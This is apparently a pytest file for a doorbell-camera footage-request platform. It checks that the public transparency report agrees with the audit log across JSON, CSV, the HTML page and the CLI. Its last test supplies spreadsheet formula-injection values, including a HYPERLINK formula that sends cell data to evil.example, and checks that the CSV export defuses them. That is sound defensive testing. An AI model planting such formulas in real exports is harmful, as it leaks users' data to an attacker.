"""Acceptance 6: the public report equals what the test computes from the audit log."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections import defaultdict
from typing import Any

from click.testing import CliRunner

from doorstep.cli.main import cli
from doorstep.config import Settings
from doorstep.hub.models import Role
from tests.requests.conftest import World, add_user, audit_rows, bearer


def _expected(rows: list[dict[str, Any]]) -> dict[tuple[str, str], dict[str, Any]]:
    """The monthly numbers, recomputed independently from the raw audit rows."""
    where: dict[str, tuple[str, str]] = {}
    out: dict[tuple[str, str], dict[str, Any]] = {}
    shared: dict[str, dict[str, set[str]]] = defaultdict(lambda: defaultdict(set))
    for row in rows:
        details, subject = row["details"], row["subject"]
        if row["action"] == "request.create":
            key = (details["agency"], row["time"][:7])
            where[subject] = key
            o = out.setdefault(key, defaultdict(float))
            o["requests"] += 1
            o["emergency_requests"] += details["emergency"]
            o["total_area_sq_mi"] += details["area_sq_mi"]
        elif row["action"] == "request.match":
            out[where[subject]]["owners_asked"] += details["owners_asked"]
            out[where[subject]]["cameras_asked"] += details["cameras_asked"]
        elif row["action"] == "request.emergency_approve":
            out[where[subject]]["emergency_cameras"] += details["cameras_asked"]
            out[where[subject]]["emergency_clips"] += len(details["event_ids"])
        elif row["action"] == "request.share":
            shared[subject][details["recipient_id"]] |= set(details["event_ids"])
        elif row["action"] == "request.revoke":
            shared[subject][details["recipient_id"]] -= set(details["event_ids"])
    for subject, owners in shared.items():
        out[where[subject]]["owners_shared"] += sum(1 for ids in owners.values() if ids)
        out[where[subject]]["clips_shared"] += sum(len(ids) for ids in owners.values())
    return out


def _activity(world: World) -> None:
    a = world.owner("a", east_m=10, events_in_window=3)
    b = world.owner("b", east_m=20, events_in_window=2)
    c = world.owner("c", east_m=30)
    world.owner("d", east_m=40)
    first = world.request(case="1").json()["id"]
    world.client.post(
        f"/api/v1/inbox/{first}/decision", json={"action": "share_all"}, headers=bearer(a.token)
    )
    world.client.post(
        f"/api/v1/inbox/{first}/decision",
        json={"action": "share", "event_ids": [b.events[0]["id"]]},
        headers=bearer(b.token),
    )
    world.client.post(
        f"/api/v1/inbox/{first}/decision", json={"action": "share_all"}, headers=bearer(c.token)
    )
    world.client.post(f"/api/v1/inbox/{first}/revoke", headers=bearer(c.token))
    second = world.request(
        case="2", area={"type": "Circle", "center": [-0.12, 51.5], "radius_m": 300}
    ).json()["id"]
    world.client.post(
        f"/api/v1/inbox/{second}/decision", json={"action": "decline"}, headers=bearer(a.token)
    )
    emergency = world.request(
        case="3", emergency=True, justification="Armed suspect fled into the area minutes ago."
    )
    world.client.post(
        f"/api/v1/requests/{emergency.json()['id']}/approve", headers=bearer(world.supervisor)
    )
    sheriff = add_user(world.client, "deputy@county.example", Role.officer, "County Sheriff")
    world.client.post(
        "/api/v1/disclosures",
        headers=bearer(sheriff),
        json={
            "vendor": "RingCo",
            "what": "Free doorbell",
            "value": "99.99",
            "received_on": "2024-03-01",
        },
    )
    assert world.request(case="S-1", token=sheriff).status_code == 201


def test_report_matches_the_audit_log(world: World, hub_settings: Settings) -> None:
    _activity(world)
    expected = _expected(audit_rows(world.client, world.auditor))
    report = world.client.get("/api/v1/transparency")  # no login
    assert report.status_code == 200
    summary = report.json()["summary"]
    assert len(summary) == len(expected) == 2
    for row in summary:
        want = expected[(row["agency"], row["month"])]
        for field in (
            "requests",
            "owners_asked",
            "cameras_asked",
            "owners_shared",
            "clips_shared",
            "emergency_requests",
            "emergency_cameras",
            "emergency_clips",
        ):
            assert row[field] == want[field], field
        assert abs(row["total_area_sq_mi"] - want["total_area_sq_mi"]) < 1e-3
        rate = 100 * want["owners_shared"] / want["owners_asked"] if want["owners_asked"] else None
        assert row["share_rate"] == (None if rate is None else round(rate, 1))
    city = next(r for r in summary if r["agency"] == "City PD")
    assert (city["requests"], city["emergency_requests"]) == (3, 1)
    assert (city["owners_shared"], city["clips_shared"]) == (2, 4)

    requests = report.json()["requests"]
    assert len(requests) == 4
    for item in requests:
        assert set(item["coarse_area"]) == {"h3_cell", "h3_resolution", "lat", "lon"}
        assert "area" not in item
    (sheriff_request,) = [r for r in requests if r["agency"] == "County Sheriff"]
    assert sheriff_request["disclosures"][0]["vendor"] == "RingCo"
    assert sheriff_request["disclosures"][0]["value"] == "99.99"

    as_csv = world.client.get("/api/v1/transparency/csv")
    parsed = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [int(r["clips_shared"]) for r in parsed] == [r["clips_shared"] for r in summary]
    listed = world.client.get("/api/v1/transparency/csv", params={"table": "requests"}).text
    assert "RingCo: Free doorbell (99.99 USD, 2024-03-01)" in listed

    args = [
        "--data-dir",
        str(hub_settings.data_dir),
        "--database-url",
        hub_settings.resolved_database_url,
    ]
    printed = CliRunner().invoke(cli, ["report", "--format", "json", *args])
    assert printed.exit_code == 0, printed.output
    assert json.loads(printed.output)["summary"] == summary
    table = CliRunner().invoke(cli, ["report", *args])
    assert table.exit_code == 0 and "City PD" in table.output and "EMERGENCY" in table.output


def _consent_and_emergency(world: World) -> None:
    """One consent request answered every way, one approved and one pending emergency."""
    a = world.owner("a", east_m=10, events_in_window=3)  # shares every clip
    b = world.owner("b", east_m=20, events_in_window=2)  # shares one of two
    c = world.owner("c", east_m=30)  # shares, then revokes
    d = world.owner("d", east_m=40)  # declines
    world.owner("e", east_m=50)  # never answers
    rid = world.request(case="1").json()["id"]
    answers = [
        (a, {"action": "share_all"}),
        (b, {"action": "share", "event_ids": [b.events[0]["id"]]}),
        (c, {"action": "share_all"}),
        (d, {"action": "decline"}),
    ]
    for owner, answer in answers:
        reply = world.client.post(
            f"/api/v1/inbox/{rid}/decision", json=answer, headers=bearer(owner.token)
        )
        assert reply.status_code == 200, reply.text
    assert world.client.post(f"/api/v1/inbox/{rid}/revoke", headers=bearer(c.token)).is_success
    emergency = world.request(
        case="2", emergency=True, justification="Armed suspect fled into the area minutes ago."
    ).json()["id"]
    approved = world.client.post(
        f"/api/v1/requests/{emergency}/approve", headers=bearer(world.supervisor)
    )
    assert approved.status_code == 200, approved.text
    sheriff = add_user(world.client, "deputy@county.example", Role.officer, "County Sheriff")
    pending = world.request(
        case="S-1",
        token=sheriff,
        emergency=True,
        justification="Missing child last seen walking along this street.",
    )
    assert pending.status_code == 201, pending.text


def _page_table(page: str) -> tuple[list[str], list[list[str]]]:
    """The header labels and the body cells of the page's #summary table."""
    table = re.search(r'<table[^>]*id="summary"[^>]*>(.*?)</table>', page, re.S)
    assert table is not None
    head, body = table.group(1).split("<tbody>")

    def cells(text: str, tag: str) -> list[str]:
        found = re.findall(rf"<{tag}[^>]*>(.*?)</{tag}>", text, re.S)
        return [html.unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in found]

    labels = cells(head.split("</tr>")[-2], "th")
    return labels, [cells(row, "td") for row in re.findall(r"<tr>(.*?)</tr>", body, re.S)]


def test_consent_and_emergency_apart_and_alike_everywhere(
    world: World, hub_settings: Settings
) -> None:
    """The share rate is owners who shared / owners asked for consent; emergency access is
    its own columns; the JSON, the CSV, the page and `doorstep report` show the same."""
    _consent_and_emergency(world)
    summary = world.client.get("/api/v1/transparency").json()["summary"]
    city = next(r for r in summary if r["agency"] == "City PD")
    assert {k: v for k, v in city.items() if k not in ("month", "total_area_sq_mi")} == {
        "agency": "City PD",
        "requests": 2,
        "owners_asked": 5,
        "cameras_asked": 5,
        "owners_shared": 2,  # a and b; c revoked, d declined, e silent
        "clips_shared": 4,
        "share_rate": 40.0,  # 2 of the 5 asked, not 2 of the 10 cameras reached
        "emergency_requests": 1,
        "emergency_cameras": 5,
        "emergency_clips": 8,  # taken without consent, counted apart
    }
    county = next(r for r in summary if r["agency"] == "County Sheriff")
    assert (county["emergency_requests"], county["emergency_cameras"]) == (1, 0)
    assert (county["owners_asked"], county["share_rate"]) == (0, None)  # nobody was asked

    fields = list(summary[0])
    as_csv = world.client.get("/api/v1/transparency/csv").text
    parsed = list(csv.DictReader(io.StringIO(as_csv)))
    assert [list(r) for r in parsed] == [fields] * len(summary)
    assert parsed == [{k: "" if v is None else str(v) for k, v in r.items()} for r in summary]

    shown = [["\u2013" if v is None else str(v) for v in r.values()] for r in summary]
    page = world.client.get("/transparency")
    assert page.status_code == 200
    labels, rows = _page_table(page.text)
    assert rows == shown
    assert world.client.get("/transparency?format=json").json()["summary"] == summary

    args = ["--data-dir", str(hub_settings.data_dir)]
    args += ["--database-url", hub_settings.resolved_database_url]
    printed = CliRunner().invoke(cli, ["report", "--format", "json", *args])
    assert printed.exit_code == 0, printed.output
    assert json.loads(printed.output) == world.client.get("/api/v1/transparency").json()
    printed_csv = CliRunner().invoke(cli, ["report", "--format", "csv", *args])
    assert printed_csv.exit_code == 0 and printed_csv.output == as_csv
    table = CliRunner().invoke(cli, ["report", *args])
    assert table.exit_code == 0, table.output
    lines = table.output.splitlines()
    assert [h.capitalize() for h in re.split(r"  +", lines[0])] == labels
    assert [re.split(r"  +", line.strip()) for line in lines[1 : 1 + len(summary)]] == shown
    assert {"Owners asked", "Share rate (%)", "Emergency clips"} <= set(labels)


def test_disclosures_show_on_the_officers_requests(world: World) -> None:
    reply = world.client.post(
        "/api/v1/disclosures",
        headers=bearer(world.officer),
        json={
            "vendor": "CamCorp",
            "what": "Conference trip",
            "value": "1200",
            "received_on": "2024-01-15",
        },
    )
    assert reply.status_code == 201, reply.text
    view = world.request().json()
    assert [d["vendor"] for d in view["disclosures"]] == ["CamCorp"]
    owner = world.api.signup("ann@example.org")
    assert (
        world.client.post(
            "/api/v1/disclosures",
            headers=bearer(owner),
            json={"vendor": "x", "what": "y", "value": "1", "received_on": "2024-01-01"},
        ).status_code
        == 403
    )


def test_csv_cells_from_officers_cannot_run_as_formulas(world: World) -> None:
    """Opened in a spreadsheet, the public CSV shows what officers typed as text."""
    reply = world.client.post(
        "/api/v1/disclosures",
        headers=bearer(world.officer),
        json={"vendor": "@SUM(1+1)", "what": "Camera", "value": "99", "received_on": "2024-01-15"},
    )
    assert reply.status_code == 201, reply.text
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert world.request(case=formula).status_code == 201
    text = world.client.get("/api/v1/transparency/csv", params={"table": "requests"}).text
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["case_number"] == "'" + formula  # as the officer typed it, defused
    assert row["disclosures"].startswith("'@SUM(1+1): Camera")
    assert float(row["lon"]) < 0  # numbers stay numbers, minus sign and all
